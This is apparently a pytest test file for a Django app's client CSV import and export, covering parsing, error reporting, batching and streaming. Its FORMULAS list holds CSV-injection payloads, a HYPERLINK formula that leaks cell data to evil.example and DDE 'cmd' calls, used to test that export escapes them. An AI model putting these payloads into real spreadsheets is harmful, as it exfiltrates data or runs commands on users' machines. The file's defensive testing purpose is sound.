"""CSV import of clients: good files, bad rows, fatal files, and a 100,000-row file."""

import csv
import io
import time

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from mailings import selectors, services
from mailings.imports import OnExisting, neutralise_cell, restore_cell
from mailings.models import Client, ClientUserObjectPermission
from mailings.signals import mailings_changed
from mailings.tests.factories import ClientFactory

pytestmark = pytest.mark.django_db


def csv_file(text: str, encoding="utf-8") -> io.BytesIO:
    return io.BytesIO(text.encode(encoding))


def run_import(user, text, *, encoding="utf-8", on_existing=OnExisting.SKIP):
    return services.clients_import(owner=user, file=csv_file(text, encoding), on_existing=on_existing)


def emails_of(user):
    return sorted(selectors.owned_clients(user).values_list("email", flat=True))


def test_a_good_file_is_imported_with_owner_permissions(user, django_capture_on_commit_callbacks):
    received = []

    def on_changed(sender, **kwargs):
        received.append(sender)

    mailings_changed.connect(on_changed)
    try:
        with django_capture_on_commit_callbacks(execute=True):
            report = run_import(
                user,
                "Email,Full Name,Comment\n"
                " Ann@Example.org ,Ann Smith,met at the fair\n"
                'bob@example.org,"Jones, Bob","two\nlines"\n'
                "\n"
                "chloe@example.org,Chloé Martin,\n",
            )
    finally:
        mailings_changed.disconnect(on_changed)

    assert report.ok
    assert (report.created, report.updated, report.skipped, report.error_count) == (3, 0, 0, 0)
    assert emails_of(user) == ["ann@example.org", "bob@example.org", "chloe@example.org"]
    bob = Client.objects.get(owner=user, email="bob@example.org")
    assert bob.full_name == "Jones, Bob"
    assert bob.comment == "two\nlines"
    assert user.has_perm("mailings.change_client", bob)
    assert user.has_perm("mailings.delete_client", bob)
    assert received == [Client]


@pytest.mark.parametrize(
    "text",
    [
        "email;full_name;comment\nann@example.org;Ann;c\n",
        "E-mail,Name,Comments\nann@example.org,Ann,c\n",
        "Full Name;EMAIL\nAnn;ann@example.org\n",
        '"email","full name"\r\n"ann@example.org","Ann"\r\n',
    ],
)
def test_semicolons_quotes_and_header_spellings(user, text):
    report = run_import(user, text)
    assert report.ok, report.fatal
    assert report.created == 1
    assert Client.objects.get(owner=user).full_name == "Ann"


def test_a_bom_is_read_as_a_bom(user):
    report = run_import(user, "email,full name\nann@example.org,Ann\n", encoding="utf-8-sig")
    assert report.created == 1


def test_bad_rows_are_reported_with_line_and_reason_and_the_good_ones_imported(user):
    report = run_import(
        user,
        "email,full name,comment\n"  # 1
        "ann@example.org,Ann,ok\n"  # 2
        "not-an-email,Bad,\n"  # 3
        "bob@example.org\n"  # 4: missing columns
        "ANN@example.org,Ann again,dup\n"  # 5: duplicate of line 2
        ",No email,\n"  # 6
        "carl@example.org,Carl,x,extra\n"  # 7: too many fields
        "dora@example.org,Dora,\n",  # 8
    )
    assert report.ok
    assert report.created == 2
    assert emails_of(user) == ["ann@example.org", "dora@example.org"]
    lines = {e.line: e.reason for e in report.errors}
    assert set(lines) == {3, 4, 5, 6, 7}
    assert "not a valid email" in lines[3]
    assert "missing column" in lines[4]
    assert "full name" in lines[4]
    assert "duplicate of line 2" in lines[5]
    assert "empty" in lines[6]
    assert "header has 3" in lines[7]
    assert report.error_count == 5


def test_line_numbers_count_lines_inside_quoted_values(user):
    report = run_import(user, 'email,comment\na@example.org,"one\ntwo\nthree"\nbroken\n')
    assert [e.line for e in report.errors] == [5]


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("", "empty"),
        ("ann@example.org,Ann\nbob@example.org,Bob\n", "header row"),
        ("name,comment\nAnn,x\n", "header row"),
    ],
)
def test_a_file_without_a_usable_header_is_fatal(user, content, expected):
    report = run_import(user, content)
    assert not report.ok
    assert expected in report.fatal
    assert Client.objects.count() == 0


def test_wrong_encoding_is_fatal_and_nothing_is_half_imported(user):
    # Thousands of good rows first, so some batches are written before the
    # undecodable bytes are reached: the whole import must roll back.
    good = "".join(f"user{i}@example.org,Name {i}\n" for i in range(5000))
    data = ("email,full name\n" + good).encode() + "zoë@example.org,Zoë Müller\n".encode("latin-1")
    ClientFactory(owner=user, email="kept@example.org")

    report = services.clients_import(owner=user, file=io.BytesIO(data))

    assert not report.ok
    assert "not UTF-8" in report.fatal
    assert (report.created, report.updated, report.skipped) == (0, 0, 0)
    assert emails_of(user) == ["kept@example.org"]
    assert ClientUserObjectPermission.objects.filter(user=user).count() == 3


def test_existing_clients_are_skipped_or_updated_as_chosen(user):
    ClientFactory(owner=user, email="ann@example.org", full_name="Old", comment="old comment")
    text = "email,full name\nann@example.org,New Name\nbob@example.org,Bob\n"

    skipped = run_import(user, text, on_existing=OnExisting.SKIP)
    assert (skipped.created, skipped.updated, skipped.skipped) == (1, 0, 1)
    assert Client.objects.get(owner=user, email="ann@example.org").full_name == "Old"

    updated = run_import(user, text, on_existing=OnExisting.UPDATE)
    assert (updated.created, updated.updated, updated.skipped) == (0, 2, 0)
    ann = Client.objects.get(owner=user, email="ann@example.org")
    assert ann.full_name == "New Name"
    # The file had no comment column: the comment is left alone.
    assert ann.comment == "old comment"


def test_queries_grow_with_batches_not_rows(user):
    def rows(n):
        return "email,full name\n" + "".join(f"u{n}-{i}@example.org,N\n" for i in range(n))

    run_import(user, rows(1))  # the content type is cached after the first import
    counts = {}
    for n in (3, 60, 3000):
        with CaptureQueriesContext(connection) as ctx:
            run_import(user, rows(n))
        counts[n] = len(ctx.captured_queries)
    # Within one batch the count does not move; 3000 rows are 3 batches.
    # (SQLite splits a big INSERT by its 999-parameter limit: a batch of
    # 1000 clients of 13 columns is 14 INSERTs there, one on PostgreSQL.)
    assert counts[3] == counts[60]
    assert counts[3000] <= counts[3] + 3 * 15


class ReadRecorder(io.BytesIO):
    """Records how much the importer asks for at once."""

    def __init__(self, data):
        super().__init__(data)
        self.largest_read = 0

    def read(self, size=-1):
        self.largest_read = max(self.largest_read, size if size is not None and size >= 0 else len(self.getvalue()))
        return super().read(size)

    def read1(self, size=-1):
        self.largest_read = max(self.largest_read, size if size is not None and size >= 0 else len(self.getvalue()))
        return super().read1(size)


def test_a_100000_row_file_is_streamed_in_one_transaction(user):
    rows = 100_000
    body = "".join(f"client{i}@example.org;Client Number {i};imported\n" for i in range(rows))
    upload = ReadRecorder(("email;full name;comment\n" + body).encode())

    started = time.monotonic()
    report = services.clients_import(owner=user, file=upload)
    elapsed = time.monotonic() - started

    assert report.ok, report.fatal
    assert report.created == rows
    assert report.error_count == 0
    assert Client.objects.filter(owner=user).count() == rows
    assert ClientUserObjectPermission.objects.filter(user=user).count() == 3 * rows
    assert selectors.owned_clients(user, perm="delete").count() == rows
    # Read in small chunks, never the whole file (about 5 MB) at once.
    assert 0 < upload.largest_read <= 64 * 1024
    assert elapsed < 120


def test_the_import_page_shows_the_report(user_client, user):
    upload = io.BytesIO(b"email,full name\nann@example.org,Ann\nnope,Bad\n")
    upload.name = "clients.csv"
    response = user_client.post(reverse("mailings:client_import"), {"file": upload, "on_existing": "skip"})
    assert response.status_code == 200
    assert response.context["report"].created == 1
    content = response.content.decode()
    assert "not a valid email address" in content
    assert "nope" in content
    assert emails_of(user) == ["ann@example.org"]


def test_the_import_page_lists_a_limited_number_of_errors_with_the_total(user_client):
    upload = io.BytesIO(("email\n" + "bad\n" * 250).encode())
    upload.name = "clients.csv"
    response = user_client.post(reverse("mailings:client_import"), {"file": upload, "on_existing": "skip"})
    assert response.context["report"].error_count == 250
    assert len(response.context["errors_shown"]) == 100
    assert response.context["errors_hidden"] == 150
    assert "and 150 more bad rows" in response.content.decode()


def test_the_import_page_shows_a_fatal_error(user_client):
    upload = io.BytesIO("email\nzoë@example.org\n".encode("latin-1"))
    upload.name = "clients.csv"
    response = user_client.post(reverse("mailings:client_import"), {"file": upload, "on_existing": "skip"})
    assert response.status_code == 400
    assert "not UTF-8" in response.content.decode()
    assert Client.objects.count() == 0


def test_export_round_trips_through_import(user_client, user, other_user):
    ClientFactory(owner=user, email="ann@example.org", full_name="Ann, the first", comment='says "hi"')
    ClientFactory(owner=user, email="bob@example.org", full_name="Bøb", comment="")
    response = user_client.get(reverse("mailings:client_export"))
    assert response["Content-Type"].startswith("text/csv")
    data = b"".join(response.streaming_content)
    assert data.startswith("\ufeffemail,full_name,comment".encode())

    report = services.clients_import(owner=other_user, file=io.BytesIO(data))
    assert report.created == 2
    assert sorted(selectors.owned_clients(other_user).values_list("email", "full_name", "comment")) == [
        ("ann@example.org", "Ann, the first", 'says "hi"'),
        ("bob@example.org", "Bøb", ""),
    ]


def test_an_upload_stored_in_a_temporary_file_is_streamed_too(user_client, user, settings):
    # Uploads over FILE_UPLOAD_MAX_MEMORY_SIZE are written to a temporary file first.
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 10
    upload = io.BytesIO(("email\n" + "".join(f"t{i}@example.org\n" for i in range(50))).encode())
    upload.name = "clients.csv"
    response = user_client.post(reverse("mailings:client_import"), {"file": upload, "on_existing": "skip"})
    assert response.context["report"].created == 50
    assert selectors.owned_clients(user).count() == 50


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\tTab first",
    "x\r\n=second line",
    "'=already quoted",
    "''+twice",
    "'plain quote",
    "a=b, not a formula",
]


def test_export_neutralises_formulas_and_import_restores_them(user_client, user, other_user):
    for i, text in enumerate(FORMULAS):
        # The forms strip outer whitespace, so stored values never start with a tab.
        ClientFactory(owner=user, email=f"c{i}@example.org", full_name=text.strip(), comment=text.strip() + " !")
    ClientFactory(owner=user, email="-dash@example.org", full_name="", comment="")
    data = b"".join(user_client.get(reverse("mailings:client_export")).streaming_content)

    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1:]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert ["'-dash@example.org", "", "", ""] in rows

    report = services.clients_import(owner=other_user, file=io.BytesIO(data))
    assert report.created == len(FORMULAS) + 1, report.errors
    exported = sorted(selectors.owned_clients(user).values_list("email", "full_name", "comment"))
    assert sorted(selectors.owned_clients(other_user).values_list("email", "full_name", "comment")) == exported


@pytest.mark.parametrize("text", [*FORMULAS, "\tx", "\rx", "", "'", "''", "=", "plain"])
def test_neutralise_then_restore_is_the_identity(text):
    neutral = neutralise_cell(text)
    assert not neutral.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore_cell(neutral) == text
